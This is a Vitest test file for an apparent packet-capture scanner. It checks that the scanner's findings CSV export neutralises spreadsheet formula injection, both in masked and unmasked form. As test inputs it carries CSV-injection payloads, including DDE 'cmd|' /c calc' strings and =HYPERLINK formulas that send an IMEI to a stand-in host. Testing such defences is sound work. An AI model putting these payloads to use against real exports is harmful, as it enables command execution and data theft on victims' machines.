/** Issue 14: the findings CSV never carries a live spreadsheet formula (OWASP's CSV injection rule). */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { csvCell, findingsCsv, reportRedactor } from '../../src/app/lib/exports';
import { oneRequestPcap } from '../capture/build';
import { analyzeFile } from '../pipeline';
import { parseCsv } from '../csv';

/** What a spreadsheet would take for a formula (OWASP: = + - @ tab CR). */
const DANGEROUS = /^[=+\-@\t\r]/;

describe('csvCell', () => {
  it.each([
    ['=1+1', `"'=1+1"`],
    ['+1+1', `"'+1+1"`],
    ['-1+1', `"'-1+1"`],
    ['@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['\0=1', `"'\0=1"`],
    ["-1+1+cmd|' /c calc'!a0", `"'-1+1+cmd|' /c calc'!a0"`],
    ['=HYPERLINK("http://evil.example/?x=1","click")', `"'=HYPERLINK(""http://evil.example/?x=1"",""click"")"`],
  ])('neutralises %j', (input, out) => expect(csvCell(input)).toBe(out));

  it('prefixes phone numbers and negative numbers too', () => {
    expect(csvCell('+8618611428769')).toBe(`"'+8618611428769"`);
    expect(csvCell('-42')).toBe(`"'-42"`);
    expect(csvCell(-3.5)).toBe(`"'-3.5"`);
  });

  it('quotes everything else per RFC 4180, unprefixed', () => {
    expect(csvCell('862287025963539')).toBe('"862287025963539"');
    expect(csvCell(42)).toBe('"42"');
    expect(csvCell(false)).toBe('"false"');
    expect(csvCell(null)).toBe('""');
    expect(csvCell(undefined)).toBe('""');
    expect(csvCell('')).toBe('""');
    expect(csvCell('a "quoted", comma\r\nand newline')).toBe('"a ""quoted"", comma\r\nand newline"');
    expect(csvCell(' =1+1')).toBe('" =1+1"');
    expect(csvCell('a=1')).toBe('"a=1"');
    expect(csvCell("'=1")).toBe(`"'=1"`);
  });
});

describe('a capture built to inject formulas', () => {
  const HOST = "-1+1+cmd|' /c calc'!a0";
  const IMEI = '862287025963539';
  // 28 bytes before the IMEI, the scanner's context excerpt starts at the `=`.
  const URI = `=HYPERLINK("http://ev.co/?i=${IMEI}","open")`;

  function capture(): Uint8Array {
    return oneRequestPcap(`GET ${URI} HTTP/1.1\r\nHost: ${HOST}\r\nUser-Agent: @SUM(1+1)*cmd|' /C calc'!A0\r\nX-Device: +8618611428769\r\nX-Imei: ${IMEI}\r\n\r\n`);
  }


  it('exports every cell as text', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'leakscope-csv-'));
    try {
      const path = join(dir, 'inject.pcap');
      writeFileSync(path, capture());
      const report = await analyzeFile(path);
      expect(report.findings.length).toBeGreaterThan(0);
      // The engine keeps the attacker's text as it came.
      expect(report.findings.some((f) => f.host === HOST)).toBe(true);
      expect(report.findings.some((f) => f.context.startsWith('=HYPERLINK('))).toBe(true);
      expect(report.findings.some((f) => f.value === '+8618611428769')).toBe(true);

      const rows = parseCsv(findingsCsv(report));
      expect(rows.length).toBe(report.findings.length + 1);
      const cells = rows.slice(1).flat();
      expect(cells.filter((c) => DANGEROUS.test(c))).toEqual([]);
      expect(cells).toContain(`'${HOST}`);
      expect(cells).toContain(`'+8618611428769`);
      expect(cells.some((c) => c.startsWith(`'=HYPERLINK("http://ev.co/?i=${IMEI}"`))).toBe(true);
      // Every row's Host cell is the capture's Host behind the one quote.
      const host = rows[0].indexOf('host');
      for (const r of rows.slice(1)) expect(r[host]).toBe(`'${HOST}`);

      // The CSV for sharing (masked) is the app's other CSV export: as safe, the values masked.
      const shared = parseCsv(findingsCsv(report, report.findings, reportRedactor(report)));
      expect(shared.length).toBe(rows.length);
      const sharedCells = shared.slice(1).flat();
      expect(sharedCells.filter((c) => DANGEROUS.test(c))).toEqual([]);
      expect(sharedCells).toContain(`'${HOST}`);
      expect(sharedCells).toContain("'+8••••••••••69");
      expect(sharedCells.filter((c) => c.includes(IMEI) || c.includes('8618611428769'))).toEqual([]);
      expect(sharedCells.some((c) => c.startsWith(`'=HYPERLINK("http://ev.co/?i=•••••••••••••••"`))).toBe(true);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
